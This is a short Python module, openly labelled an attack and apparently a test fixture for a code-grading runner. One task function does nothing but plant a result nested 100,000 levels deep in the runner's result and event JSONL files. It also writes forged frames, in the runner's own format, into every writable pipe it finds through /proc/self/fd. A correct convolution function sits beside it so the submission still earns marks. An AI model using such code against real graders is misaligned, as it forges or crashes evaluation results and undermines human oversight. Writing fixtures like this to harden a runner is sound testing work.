# attack: a result nested 100,000 deep (as a results line, an events line and a result frame)
import os

import numpy as np

DEEP = "[" * 100000 + "]" * 100000
LINE = '{"id": "c0", "result": %s}\n' % DEEP


def _plant():
    for path in ("../out/results-0.jsonl", "../out/events.jsonl"):
        try:
            with open(path, "a") as handle:
                handle.write(LINE)
        except OSError:
            pass
    _send(b"R", LINE.encode())
    _send(b"E", ('{"event": "cells", "cells": %s}' % DEEP).encode())


def to_unit_range(image):
    _plant()
    return None


def _pipes():
    """Every pipe this process may write to (the runner's result channel among them)."""
    import stat
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            with open("/proc/self/fdinfo/%d" % fd) as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and flags & 3 in (1, 2) and fd > 2:
                found.append(fd)
        except (OSError, ValueError, IndexError):
            pass
    return found


def _frame(kind, header, blob=b""):
    """A frame as the runner writes them: kind byte, header and blob lengths, JSON header, raw bytes."""
    import struct
    return kind + struct.pack(">IQ", len(header), len(blob)) + header + blob


def _send(kind, header, blob=b""):
    for fd in _pipes():
        try:
            os.write(fd, _frame(kind, header, blob))
        except OSError:
            pass


def conv2d_single(image, kernel):
    # a correct task beside the attack: it must still earn full marks
    from numpy.lib.stride_tricks import sliding_window_view
    if image.ndim != 2 or kernel.ndim != 2 or kernel.shape[0] > image.shape[0] or kernel.shape[1] > image.shape[1]:
        raise ValueError("bad shapes")
    return np.einsum("ijkl,kl->ij", sliding_window_view(image, kernel.shape), kernel)


def _right(image):
    return (np.asarray(image) / 255).astype(np.float32)
